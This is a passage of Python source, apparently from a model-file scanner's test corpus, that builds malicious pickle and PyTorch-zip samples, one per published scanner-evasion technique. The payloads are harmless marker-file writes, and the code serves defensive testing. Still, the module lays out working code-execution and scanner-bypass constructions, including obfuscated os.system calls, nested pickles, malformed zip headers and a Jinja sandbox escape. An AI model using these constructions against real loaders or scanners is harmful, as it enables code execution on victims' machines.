"""Malicious corpus samples: one builder per known scanner-evasion technique.

Every payload here, if a loader ever ran it, would only create the marker file
(`BuildContext.marker`): a ``touch`` of that path, an ``open(marker, 'w').close()``, or a copy of
the sample onto it. Nothing reaches the network and nothing else is written. References point to
the public advisory, issue or write-up that made the technique known. Not for: benign samples
(`_benign`), or building anything outside the corpus.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import json
import lzma
import marshal
import os
import pickle
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from types import CodeType
from typing import Any

from mlwarden.demo import _containers as box
from mlwarden.demo._pickle_writer import PickleWriter
from mlwarden.demo._registry import BuildContext, malicious
from mlwarden.findings import Severity

# -- shared payload pieces -------------------------------------------------------------------------


def _os_system(ctx: BuildContext, protocol: int = 2) -> bytes:
    """The canonical payload: ``os.system('touch <marker>')``."""
    return PickleWriter(protocol).call_global("os", "system", ctx.shell_command()).stop().getvalue()


def _broken_after_payload(ctx: BuildContext) -> bytes:
    """``os.system`` runs, then the stream breaks (a BINUNICODE that claims more than is left)."""
    writer = PickleWriter(2).call_global("os", "system", ctx.shell_command())
    return writer.raw(b"X\xff\xff\x00\x00truncated").getvalue()


class _Reducer:
    """An object that pickles as a call to `fn(*args)`; used only at build time."""

    def __init__(self, fn: Callable[..., Any], args: tuple[Any, ...]) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self.fn, self.args


def _lambda_code(ctx: BuildContext) -> CodeType:
    """The code object of ``lambda x: (<create marker>, x)[1]``, compiled, never run."""
    module = compile(f"lambda x: ({ctx.python_statement()}, x)[1]", "<corpus>", "eval")
    return next(c for c in module.co_consts if isinstance(c, CodeType))


def _benign_state_pickle() -> bytes:
    """A harmless ``collections.OrderedDict()`` pickle, as a state dict's data.pkl starts."""
    return PickleWriter(2).global_("collections", "OrderedDict").call().stop().getvalue()


_TOUCH_TEMPLATE = (
    "{{% for x in ().__class__.__base__.__subclasses__() %}}"
    '{{% if "warning" in x.__name__ %}}'
    "{{{{ x()._module.__builtins__['__import__']('os').popen({command!r}).read() }}}}"
    "{{% endif %}}{{% endfor %}}"
)


def _ssti_template(ctx: BuildContext) -> str:
    """A Jinja template that escapes the sandbox-less renderer to ``os.popen('touch ...')``."""
    return _TOUCH_TEMPLATE.format(command=ctx.shell_command())


# -- plain pickles: how the callable is named ------------------------------------------------------


@malicious(
    "pickle/os-system-global-p0",
    format="pickle",
    file="os_system_p0.pkl",
    description="`os.system` named by GLOBAL in a protocol 0 (text) pickle, called by REDUCE.",
    reference="baseline; on modelscan's CRITICAL list",
    loader="pickle",
)
def _os_system_p0(ctx: BuildContext) -> bytes:
    return _os_system(ctx, protocol=0)


@malicious(
    "pickle/posix-system-p2",
    format="pickle",
    file="posix_system_p2.pkl",
    description="`posix.system`, the name `pickle.dumps(os.system)` really writes on Linux.",
    reference="baseline; on modelscan's CRITICAL list",
    loader="pickle",
)
def _posix_system(ctx: BuildContext) -> bytes:
    return PickleWriter(2).call_global("posix", "system", ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/subprocess-check-call",
    format="pickle",
    file="subprocess_check_call.pkl",
    description="`subprocess.check_call(['touch', marker])` through REDUCE.",
    reference="baseline; on modelscan's CRITICAL list",
    loader="pickle",
)
def _subprocess_check_call(ctx: BuildContext) -> bytes:
    argv = ["touch", str(ctx.marker)]
    return PickleWriter(2).call_global("subprocess", "check_call", argv).stop().getvalue()


@malicious(
    "pickle/subprocess-popen",
    format="pickle",
    file="subprocess_popen.pkl",
    description="`subprocess.Popen(['touch', marker])`: the command runs after load returns.",
    reference="baseline; on modelscan's CRITICAL list",
    loader="pickle",
)
def _subprocess_popen(ctx: BuildContext) -> bytes:
    argv = ["touch", str(ctx.marker)]
    return PickleWriter(2).call_global("subprocess", "Popen", argv).stop().getvalue()


@malicious(
    "pickle/builtins-exec-stack-global-p4",
    format="pickle",
    file="exec_stack_global_p4.pkl",
    description="`builtins.exec` named by STACK_GLOBAL from two pushed strings (protocol 4).",
    reference="baseline; fickling OvertlyBadEvals",
    loader="pickle",
)
def _exec_stack_global(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("builtins", "exec")
    return writer.call(ctx.python_statement()).stop().getvalue()


@malicious(
    "pickle/builtins-eval-p2",
    format="pickle",
    file="eval_p2.pkl",
    description="`builtins.eval` of an expression that creates the marker.",
    reference="baseline; on modelscan's CRITICAL list",
    loader="pickle",
)
def _eval_p2(ctx: BuildContext) -> bytes:
    return PickleWriter(2).call_global("builtins", "eval", ctx.python_statement()).stop().getvalue()


@malicious(
    "pickle/py2-builtin-eval",
    format="pickle",
    file="py2_builtin_eval.pkl",
    description="`__builtin__.eval`: the Python 2 module name that pickle maps to `builtins` "
    "for protocols below 3.",
    reference="modelscan's CRITICAL list names `__builtin__`",
    loader="pickle",
)
def _py2_builtin_eval(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("__builtin__", "eval", ctx.python_statement())
    return writer.stop().getvalue()


@malicious(
    "pickle/getattr-import-chain",
    format="pickle",
    file="getattr_import_chain.pkl",
    description="`builtins.getattr(builtins.__import__('os'), 'system')(cmd)`: the callable is "
    "computed at load time, never named by a GLOBAL.",
    reference="picklescan#66 (string-to-callable indirection)",
    loader="pickle",
)
def _getattr_import_chain(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).global_("builtins", "getattr")
    writer.call_global("builtins", "__import__", "os")
    writer.string("system").tuple_(2).reduce()
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/inst-opcode",
    format="pickle",
    file="inst_opcode.pkl",
    description="INST opcode: names `os.system` and calls it in one protocol 0 opcode, no REDUCE.",
    reference="fickling OBJ/INST analysis gaps (GHSA-mxhj-88fx-4pcv)",
    loader="pickle",
)
def _inst_opcode(ctx: BuildContext) -> bytes:
    writer = PickleWriter(0).mark().string(ctx.shell_command())
    return writer.inst("os", "system").stop().getvalue()


@malicious(
    "pickle/obj-opcode",
    format="pickle",
    file="obj_opcode.pkl",
    description="OBJ opcode: `os.system` pushed after a MARK and called by OBJ, no REDUCE.",
    reference="GHSA-mxhj-88fx-4pcv (fickling OBJ safety-check bypass)",
    loader="pickle",
)
def _obj_opcode(ctx: BuildContext) -> bytes:
    writer = PickleWriter(1).mark().global_("os", "system").string(ctx.shell_command())
    return writer.obj().stop().getvalue()


@malicious(
    "pickle/memo-assembled-names",
    format="pickle",
    file="memo_assembled_names.pkl",
    description="'os' and 'system' are MEMOIZEd and POPped, then fetched back with BINGET into "
    "STACK_GLOBAL: the names never sit next to the opcode that uses them.",
    reference="modelscan#85 memo trick; picklescan parser-logic bypass GHSA-9gvj-pp9x-gcfr",
    loader="pickle",
)
def _memo_assembled(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4)
    writer.string("os").memoize().pop().string("system").memoize().pop()
    writer.get(0).get(1).raw(b"\x93")
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/importlib-getattr-join",
    format="pickle",
    file="importlib_getattr_join.pkl",
    description="`getattr(importlib.import_module(str.join('', ['o', 's'])), 'system')(cmd)`: the "
    "module name is assembled at load time.",
    reference="modelscan#331",
    loader="pickle",
)
def _importlib_join(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("builtins", "getattr")
    writer.stack_global("importlib", "import_module")
    writer.stack_global("builtins", "str.join").call("", ["o", "s"])
    writer.tuple_(1).reduce()
    writer.string("system").tuple_(2).reduce()
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/pkgutil-resolve-name",
    format="pickle",
    file="pkgutil_resolve_name.pkl",
    description="`pkgutil.resolve_name('os:system')(cmd)`: any callable from one string.",
    reference="GHSA-vvpj-8cmc-gx39 (universal picklescan bypass)",
    loader="pickle",
)
def _pkgutil_resolve_name(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("pkgutil", "resolve_name", "os:system")
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/operator-attrgetter",
    format="pickle",
    file="operator_attrgetter.pkl",
    description="`operator.attrgetter('system')(builtins.__import__('os'))(cmd)`.",
    reference="picklescan#66; modelscan's CRITICAL list names operator.attrgetter",
    loader="pickle",
)
def _operator_attrgetter(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("operator", "attrgetter", "system")
    writer.call_global("builtins", "__import__", "os").tuple_(1).reduce()
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/operator-methodcaller-module-alias",
    format="pickle",
    file="operator_methodcaller.pkl",
    description="`operator.methodcaller('system', cmd)` applied to `tempfile._os`: the os module "
    "reached under a private alias of an innocent module.",
    reference="picklescan#66 (methodcaller chains); GHSA-6ggj-6f2q-f7mx (private names)",
    loader="pickle",
)
def _operator_methodcaller(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("operator", "methodcaller", "system", ctx.shell_command())
    return writer.global_("tempfile", "_os").tuple_(1).reduce().stop().getvalue()


@malicious(
    "pickle/_operator-attrgetter",
    format="pickle",
    file="private_operator_attrgetter.pkl",
    description="`_operator.attrgetter('system')(importlib.import_module('os'))(cmd)`: the C "
    "module behind `operator`, missing from denylists that name only `operator`.",
    reference="GHSA-955r-x9j8-7rhh, GHSA-46h3-79wf-xr6c",
    loader="pickle",
)
def _private_operator(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("_operator", "attrgetter", "system")
    writer.call_global("importlib", "import_module", "os").tuple_(1).reduce()
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/dotted-stack-global-posixpath",
    format="pickle",
    file="dotted_stack_global.pkl",
    description="STACK_GLOBAL with module 'posixpath' and name 'os.system': protocol 4 walks the "
    "dotted name, reaching os through an innocent module.",
    reference="GHSA-5j3x-jp52-966f (fickling dotted STACK_GLOBAL names)",
    loader="pickle",
)
def _dotted_stack_global(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("posixpath", "os.system")
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/numpy-builtins-eval",
    format="pickle",
    file="numpy_builtins_eval.pkl",
    description="`numpy.__builtins__.get('eval')(code)`: eval reached through an allowed module's "
    "`__builtins__` dict.",
    reference="modelscan#330",
    loader="pickle",
)
def _numpy_builtins(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("numpy", "__builtins__.get").call("eval")
    return writer.call(ctx.python_statement()).stop().getvalue()


@malicious(
    "pickle/escaped-string-names",
    format="pickle",
    file="escaped_string_names.pkl",
    description="STACK_GLOBAL fed by protocol 0 STRING opcodes written with escapes "
    "(`S'\\x6fs'`, `S'sy\\x73tem'`): the names are 'os' and 'system' only after unescaping.",
    reference="name obfuscation through string encodings (picklescan parser-logic bypass, "
    "GHSA-9gvj-pp9x-gcfr)",
    loader="pickle",
)
def _escaped_names(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).raw(b"S'\\x6fs'\n").raw(b"S'sy\\x73tem'\n").raw(b"\x93")
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/binstring-names",
    format="pickle",
    file="binstring_names.pkl",
    description="STACK_GLOBAL fed by SHORT_BINSTRING (Python 2 str) opcodes instead of unicode "
    "strings; pickle decodes them to str.",
    reference="opcode variants for the same name (issue 2: names assembled on the stack)",
    loader="pickle",
)
def _binstring_names(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).raw(b"U\x02os").raw(b"U\x06system").raw(b"\x93")
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/rot13-computed-names",
    format="pickle",
    file="rot13_computed_names.pkl",
    description="The module and function names are computed at load time by "
    "`_codecs.encode('bf', 'rot13')` (an allowlisted callable legitimate pickles use for "
    "bytes), then fed to STACK_GLOBAL: no static string says 'os' or 'system'.",
    reference="string-to-callable indirection (picklescan#66; modelscan#331)",
    loader="pickle",
)
def _rot13_names(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4)
    writer.stack_global("_codecs", "encode").call("bf", "rot13")
    writer.stack_global("_codecs", "encode").call("flfgrz", "rot13")
    writer.raw(b"\x93")
    return writer.call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/copyreg-reconstructor-popen",
    format="pickle",
    file="copyreg_reconstructor.pkl",
    description="`copyreg._reconstructor(subprocess.Popen, subprocess.Popen, argv)`: the "
    "allowlisted helper that protocol 0-1 pickles use for objects calls `Popen.__init__`.",
    reference="dangerous class passed to an allowlisted callable (allowlist shadowing, "
    "GHSA-cffv-grgg-g429)",
    loader="pickle",
)
def _reconstructor(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).global_("copyreg", "_reconstructor")
    writer.global_("subprocess", "Popen").global_("subprocess", "Popen")
    writer.value(["touch", str(ctx.marker)]).tuple_(3).reduce()
    return writer.stop().getvalue()


# -- plain pickles: less known ways to run code ----------------------------------------------------


@malicious(
    "pickle/runpy-run-code",
    format="pickle",
    file="runpy_run_code.pkl",
    description="`runpy._run_code(source, {})`: exec under another name.",
    reference="fickling blocklist expansion (runpy); modelscan lists runpy",
    loader="pickle",
)
def _runpy(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("runpy", "_run_code", ctx.python_statement(), {})
    return writer.stop().getvalue()


@malicious(
    "pickle/code-interactive-interpreter",
    format="pickle",
    file="code_interactive_interpreter.pkl",
    description="`code.InteractiveInterpreter.runsource(code.InteractiveInterpreter(), source)`: "
    "an unbound method named by a dotted STACK_GLOBAL, called on an instance built by REDUCE.",
    reference="picklescan missing-callable GHSAs, Aug 2025 (code.InteractiveInterpreter)",
    loader="pickle",
)
def _code_interpreter(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("code", "InteractiveInterpreter.runsource")
    writer.stack_global("code", "InteractiveInterpreter").call()
    return writer.string(ctx.python_statement()).tuple_(2).reduce().stop().getvalue()


@malicious(
    "pickle/cprofile-run",
    format="pickle",
    file="cprofile_run.pkl",
    description="`cProfile.run(source)`: the profiler executes the statement.",
    reference="picklescan missing-callable GHSAs, Aug 2025 (cProfile.run)",
    loader="pickle",
)
def _cprofile(ctx: BuildContext) -> bytes:
    return PickleWriter(2).call_global("cProfile", "run", ctx.python_statement()).stop().getvalue()


@malicious(
    "pickle/profile-run",
    format="pickle",
    file="profile_run.pkl",
    description="`profile.run(source)`: the pure-Python profiler executes the statement.",
    reference="picklescan missing-callable GHSAs, Aug 2025 (profile.Profile.run)",
    loader="pickle",
)
def _profile(ctx: BuildContext) -> bytes:
    return PickleWriter(2).call_global("profile", "run", ctx.python_statement()).stop().getvalue()


@malicious(
    "pickle/trace-run",
    format="pickle",
    file="trace_run.pkl",
    description="`trace.Trace.run(trace.Trace(0, 0), source)`.",
    reference="picklescan missing-callable GHSAs, Aug 2025 (trace.Trace.run)",
    loader="pickle",
)
def _trace(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("trace", "Trace.run")
    writer.stack_global("trace", "Trace").call(0, 0)
    return writer.string(ctx.python_statement()).tuple_(2).reduce().stop().getvalue()


@malicious(
    "pickle/timeit-setup",
    format="pickle",
    file="timeit.pkl",
    description="`timeit.timeit('pass', source)`: the setup statement is executed.",
    reference="picklescan 2025-04 additions (timeit)",
    loader="pickle",
)
def _timeit(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("timeit", "timeit", "pass", ctx.python_statement())
    return writer.stop().getvalue()


@malicious(
    "pickle/doctest-debug-script",
    format="pickle",
    file="doctest_debug_script.pkl",
    description="`doctest.debug_script(source, True)`: exec, with a debugger only on failure.",
    reference="picklescan missing-callable GHSAs, Aug 2025 (doctest.debug_script)",
    loader="pickle",
)
def _doctest(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("doctest", "debug_script", ctx.python_statement(), True)
    return writer.stop().getvalue()


@malicious(
    "pickle/ensurepip-run-pip",
    format="pickle",
    file="ensurepip_run_pip.pkl",
    description="`ensurepip._run_pip(args)` with `args` a string: it is pasted into the code "
    "of a child Python process, which creates the marker and exits before pip runs.",
    reference="picklescan missing-callable GHSAs, Aug 2025 (ensurepip._run_pip)",
    loader="pickle",
)
def _ensurepip(ctx: BuildContext) -> bytes:
    injected = f"[]\n{ctx.python_statement()}\nraise SystemExit(0)"
    return PickleWriter(2).call_global("ensurepip", "_run_pip", injected).stop().getvalue()


@malicious(
    "pickle/pip-main",
    format="pickle",
    file="pip_main.pkl",
    description="`pip.main(['cache', 'dir', '--log', marker])`: pip runs inside the loader (a "
    "real attack installs a package); here its log file is the marker.",
    reference="CVE-2025-1716",
    loader="pickle",
)
def _pip_main(ctx: BuildContext) -> bytes:
    argv = ["cache", "dir", "--log", str(ctx.marker)]
    return PickleWriter(2).call_global("pip", "main", argv).stop().getvalue()


@malicious(
    "pickle/asyncio-subprocess-transport",
    format="pickle",
    file="asyncio_subprocess_transport.pkl",
    description="`asyncio.unix_events._UnixSubprocessTransport._start(SimpleNamespace(), cmd, "
    "True, None, None, None, 0)`: a shell started from a submodule of a denylisted package.",
    reference="CVE-2025-10157",
    loader="pickle",
)
def _asyncio_transport(ctx: BuildContext) -> bytes:
    writer = PickleWriter(4).stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start")
    writer.mark().stack_global("types", "SimpleNamespace").call()
    writer.string(ctx.shell_command()).bool_(True).none().none().none().int_(0)
    return writer.tuple_(7).reduce().stop().getvalue()


@malicious(
    "pickle/torch-collect-env-run",
    format="pickle",
    file="torch_collect_env_run.pkl",
    description="`torch.utils.collect_env.run(cmd)`: a shell command through an innocent-looking "
    "PyTorch helper.",
    reference="modelscan#338",
    loader="pickle",
)
def _collect_env(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("torch.utils.collect_env", "run", ctx.shell_command())
    return writer.stop().getvalue()


@malicious(
    "pickle/numpy-runstring",
    format="pickle",
    file="numpy_runstring.pkl",
    description="`numpy.testing._private.utils.runstring(source, {})`: exec inside NumPy.",
    reference="picklescan missing-callable GHSAs (numpy.testing._private.utils)",
    loader="pickle",
)
def _numpy_runstring(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global(
        "numpy.testing._private.utils", "runstring", ctx.python_statement(), {}
    )
    return writer.stop().getvalue()


@malicious(
    "pickle/shutil-copyfile",
    format="pickle",
    file="shutil_copyfile.pkl",
    description="`shutil.copyfile(this_sample, marker)`: a file write, no code run at all.",
    reference="modelscan's CRITICAL list names shutil",
    loader="pickle",
)
def _shutil_copyfile(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("shutil", "copyfile", str(ctx.path), str(ctx.marker))
    return writer.stop().getvalue()


@malicious(
    "pickle/marshal-function",
    format="pickle",
    file="marshal_function.pkl",
    description="`types.FunctionType(marshal.loads(code_bytes), {})()`: marshalled bytecode made "
    "into a function and called (bytecode of the Python that built the corpus).",
    reference="fickling blocklist expansion (marshal, types); picklescan PR #74",
    loader="pickle",
)
def _marshal_function(ctx: BuildContext) -> bytes:
    code = marshal.dumps(compile(ctx.python_statement(), "<corpus>", "exec"))
    writer = PickleWriter(3).global_("types", "FunctionType")
    writer.call_global("marshal", "loads", code).empty_dict().tuple_(2).reduce()
    return writer.call().stop().getvalue()


@malicious(
    "pickle/exec-base64-source",
    format="pickle",
    file="exec_base64_source.pkl",
    description="`builtins.exec(base64.b64decode('...'))`: the executed source never appears in "
    "clear text.",
    reference="fickling OvertlyBadEvals",
    loader="pickle",
)
def _exec_base64(ctx: BuildContext) -> bytes:
    encoded = base64.b64encode(ctx.python_statement().encode()).decode("ascii")
    writer = PickleWriter(2).global_("builtins", "exec")
    writer.call_global("base64", "b64decode", encoded).tuple_(1).reduce()
    return writer.stop().getvalue()


@malicious(
    "pickle/proto5-framed-eval",
    format="pickle",
    file="proto5_framed.pkl",
    description="`eval(source)` as `pickle.dumps` writes it at protocol 5: FRAME, "
    "STACK_GLOBAL, MEMOIZE.",
    reference="baseline for protocol 5 framing",
    loader="pickle",
)
def _proto5(ctx: BuildContext) -> bytes:
    return pickle.dumps(_Reducer(eval, (ctx.python_statement(),)), protocol=5)


# -- plain pickles: structural evasions ------------------------------------------------------------


@malicious(
    "pickle/pop-discarded-call",
    format="pickle",
    file="pop_discarded_call.pkl",
    description="`os.system(cmd)` whose result is POPped, followed by an innocent dict: the "
    "call vanishes from the decompiled object.",
    reference="fickling POP bypass (promptfoo write-up)",
    loader="pickle",
)
def _pop_discarded(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("os", "system", ctx.shell_command()).pop()
    return writer.value({"weights": [1, 2, 3], "epoch": 10}).stop().getvalue()


@malicious(
    "pickle/copyreg-ext1",
    format="pickle",
    file="copyreg_ext1.pkl",
    description="`copyreg.add_extension('os', 'system', 240)` then EXT1 240: the callable is "
    "fetched by an extension code, never by name at its point of use.",
    reference="EXT opcodes (issue 2 scanner requirements)",
    loader="pickle",
)
def _copyreg_ext(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).call_global("copyreg", "add_extension", "os", "system", 240).pop()
    return writer.ext1(240).call(ctx.shell_command()).stop().getvalue()


@malicious(
    "pickle/functools-partial",
    format="pickle",
    file="functools_partial.pkl",
    description="`functools.partial(os.system, cmd)()`: the REDUCE that runs the command calls "
    "a partial object, not os.system.",
    reference="indirect call through a wrapper (picklescan#66 family)",
    loader="pickle",
)
def _functools_partial(ctx: BuildContext) -> bytes:
    writer = PickleWriter(2).global_("functools", "partial")
    writer.global_("os", "system").string(ctx.shell_command()).tuple_(2).reduce()
    return writer.call().stop().getvalue()


@malicious(
    "pickle/nested-pickle-loads",
    format="pickle",
    file="nested_pickle_loads.pkl",
    description="`pickle.loads(b'<pickle calling os.system>')`: the payload is a pickle inside "
    "a pickle.",
    reference="modelscan#267",
    loader="pickle",
)
def _nested_loads(ctx: BuildContext) -> bytes:
    return PickleWriter(3).call_global("pickle", "loads", _os_system(ctx)).stop().getvalue()


@malicious(
    "pickle/nested-_pickle-loads",
    format="pickle",
    file="nested_c_pickle_loads.pkl",
    description="`_pickle.loads(b'...')`: the C accelerator module's loader.",
    reference="modelscan#267; modelscan CRITICAL list names _pickle",
    loader="pickle",
)
def _nested_c_loads(ctx: BuildContext) -> bytes:
    return PickleWriter(3).call_global("_pickle", "loads", _os_system(ctx)).stop().getvalue()


@malicious(
    "pickle/nested-base64-pickle",
    format="pickle",
    file="nested_base64_pickle.pkl",
    description="`pickle.loads(base64.b64decode('...'))`: the inner pickle is base64 text.",
    reference="modelscan#267 (nested pickles), encoded variant",
    loader="pickle",
)
def _nested_base64(ctx: BuildContext) -> bytes:
    encoded = base64.b64encode(_os_system(ctx)).decode("ascii")
    writer = PickleWriter(2).global_("pickle", "loads")
    writer.call_global("base64", "b64decode", encoded).tuple_(1).reduce()
    return writer.stop().getvalue()


@malicious(
    "pickle/torch-load-from-bytes",
    format="pickle",
    file="torch_load_from_bytes.pkl",
    description="`torch.storage._load_from_bytes(b'...')`, the call PyTorch itself writes for "
    "storages; it runs `torch.load(weights_only=False)` on a malicious inner pickle.",
    reference="nested loaders (issue 2); legitimate-looking PyTorch helper",
    loader="pickle",
)
def _torch_load_from_bytes(ctx: BuildContext) -> bytes:
    writer = PickleWriter(3).call_global("torch.storage", "_load_from_bytes", _os_system(ctx))
    return writer.stop().getvalue()


@malicious(
    "pickle/second-pickle-in-stream",
    format="pickle",
    file="second_pickle_in_stream.pkl",
    description="Two pickles back to back: an innocent dict, then `os.system`. Loaders that "
    "call pickle.load repeatedly (PyTorch's legacy format) run the second.",
    reference="several pickles in one stream (issue 2); fickling multi-pickle files",
    loader="pickle-stream",
)
def _second_pickle(ctx: BuildContext) -> bytes:
    first = PickleWriter(2).value({"format": "weights", "version": 1}).stop().getvalue()
    return first + _os_system(ctx)


@malicious(
    "pickle/after-junk-bytes",
    format="unknown",
    file="blob.dat",
    description="4 KiB of binary junk, then a pickle calling `os.system`: a loader that seeks "
    "past its own header runs it; a scanner that sniffs only the start sees nothing.",
    reference="pickles hidden after other data (issue 2)",
)
def _after_junk(ctx: BuildContext) -> bytes:
    junk = bytearray(b"MLWDBLOB")
    state = 0x2545F491
    while len(junk) < 4096:
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        junk.append((state >> 16) & 0x7F | 0x20)
    return bytes(junk) + _os_system(ctx)


@malicious(
    "pickle/broken-after-payload",
    format="pickle",
    file="broken_after_payload.pkl",
    description="`os.system` runs, then the stream is truncated mid-opcode: the loader fails "
    "after the payload already ran.",
    reference="nullifAI (ReversingLabs, Feb 2025)",
    loader="pickle",
)
def _broken(ctx: BuildContext) -> bytes:
    return _broken_after_payload(ctx)


# -- PyTorch zip archives and zip header tricks ----------------------------------------------------


def _tensor_bytes() -> dict[str, bytes]:
    return {"0": struct.pack("<4f", 0.5, -1.0, 2.0, 0.25)}


@malicious(
    "torch/zip-data-pkl",
    format="pytorch-zip",
    file="model.pt",
    description="A standard `torch.save` zip layout whose archive/data.pkl calls `os.system`.",
    reference="baseline PyTorch model attack",
    loader="torch",
)
def _torch_zip(ctx: BuildContext) -> bytes:
    return box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())


@malicious(
    "torch/zip-renamed-folder",
    format="pytorch-zip",
    file="model.pth",
    description="The archive folder is not called 'archive' (PyTorch accepts any name).",
    reference="PyTorch zips 'whatever their members are named' (issue 2)",
    loader="torch",
)
def _torch_zip_renamed(ctx: BuildContext) -> bytes:
    return box.torch_zip(_os_system(ctx), folder="resnet50_final", tensors=_tensor_bytes())


@malicious(
    "torch/zip-as-bin",
    format="pytorch-zip",
    file="pytorch_model.bin",
    description="The malicious PyTorch zip saved as pytorch_model.bin.",
    reference="CVE-2025-10155 (extension routes to the wrong parser)",
    loader="torch",
)
def _torch_as_bin(ctx: BuildContext) -> bytes:
    return box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())


@malicious(
    "torch/zip-as-png",
    format="pytorch-zip",
    file="thumbnail.png",
    description="The malicious PyTorch zip saved with a .png name.",
    reference="CVE-2025-1889 (non-standard extension never scanned)",
    loader="torch",
)
def _torch_as_png(ctx: BuildContext) -> bytes:
    return box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())


@malicious(
    "torch/zip-as-txt",
    format="pytorch-zip",
    file="notes.txt",
    description="The malicious PyTorch zip saved with a .txt name.",
    reference="CVE-2025-1889 (non-standard extension never scanned)",
    loader="torch",
)
def _torch_as_txt(ctx: BuildContext) -> bytes:
    return box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())


@malicious(
    "zip/bad-crc",
    format="pytorch-zip",
    file="bad_crc.pt",
    description="data.pkl's CRC-32 is wrong in both records: Python's zipfile refuses to read "
    "it, PyTorch never checks.",
    reference="CVE-2025-10156",
    loader="torch",
)
def _zip_bad_crc(ctx: BuildContext) -> bytes:
    archive = box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())
    return box.patch_zip_member(archive, "archive/data.pkl", box.set_crc(0xDEADBEEF))


@malicious(
    "zip/local-flag-bits",
    format="pytorch-zip",
    file="flag_bits.pt",
    description="data.pkl's local header claims encryption (flag bits 0 and 6); PyTorch reads "
    "the central directory and loads it.",
    reference="CVE-2025-1945 (GHSA-w8jq-xcqf-f792)",
    loader="torch",
)
def _zip_flag_bits(ctx: BuildContext) -> bytes:
    archive = box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())
    return box.patch_zip_member(archive, "archive/data.pkl", box.or_local_flags(0x41))


@malicious(
    "zip/name-mismatch",
    format="pytorch-zip",
    file="name_mismatch.pt",
    description="data.pkl's local header is named 'archive/data.pkX' while the central "
    "directory says 'archive/data.pkl'; zipfile raises, PyTorch loads.",
    reference="CVE-2025-1944 (GHSA-7q5r-7gvp-wc82)",
    loader="torch",
)
def _zip_name_mismatch(ctx: BuildContext) -> bytes:
    archive = box.torch_zip(_os_system(ctx), tensors=_tensor_bytes())
    return box.patch_zip_member(archive, "archive/data.pkl", box.rename_local("archive/data.pkX"))


@malicious(
    "zip/corrupt-first-entry",
    format="pytorch-zip",
    file="corrupt_first_entry.pt",
    description="The first member claims deflate but holds garbage; a scanner whose member "
    "loop stops at the first error never reaches data.pkl, which PyTorch loads.",
    reference="modelscan#354 (fail-open zip iterator)",
    loader="torch",
)
def _zip_corrupt_first(ctx: BuildContext) -> bytes:
    archive = box.torch_zip(
        _os_system(ctx), tensors=_tensor_bytes(), before=[("aaa_index", b"\x00" * 64)]
    )
    return box.patch_zip_member(archive, "archive/aaa_index", box.set_method(8))


@malicious(
    "zip/duplicate-data-pkl",
    format="pytorch-zip",
    file="duplicate_member.pt",
    description="Two members named archive/data.pkl: PyTorch loads the first (malicious), "
    "Python's zipfile returns the last (an innocent OrderedDict).",
    reference="zip read as leniently as PyTorch reads it (issue 2); CVE-2025-1944 family",
    loader="torch",
)
def _zip_duplicate(ctx: BuildContext) -> bytes:
    return box.zip_bytes(
        [
            ("archive/data.pkl", _os_system(ctx)),
            ("archive/byteorder", b"little"),
            ("archive/version", b"3\n"),
            ("archive/data.pkl", _benign_state_pickle()),
        ]
    )


@malicious(
    "zip/deflated-data-pkl",
    format="pytorch-zip",
    file="deflated.pt",
    description="archive/data.pkl stored deflate-compressed (torch.save stores it raw; "
    "PyTorch still loads it), so its bytes never appear in the file.",
    reference="containers read as the loader reads them (issue 2)",
    loader="torch",
)
def _zip_deflated(ctx: BuildContext) -> bytes:
    return box.zip_bytes(
        [("archive/data.pkl", _os_system(ctx)), ("archive/version", b"3\n")], deflate=True
    )


@malicious(
    "torch/pickle-in-tensor-member",
    format="pytorch-zip",
    file="hidden_in_tensor.pt",
    description="data.pkl is innocent; the malicious pickle sits in archive/data/0, where "
